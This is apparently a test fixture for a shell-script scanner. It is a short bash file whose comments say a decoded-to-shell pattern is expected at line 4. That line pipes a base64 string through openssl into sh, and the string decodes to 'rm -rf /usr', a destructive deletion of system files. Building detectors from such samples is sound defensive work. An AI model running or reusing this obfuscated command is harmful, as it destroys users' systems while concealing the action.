#!/bin/bash
# shows: decoded by openssl
# expect: decoded-to-shell at line 4
echo 'cm0gLXJmIC91c3IK' | openssl base64 -d | sh
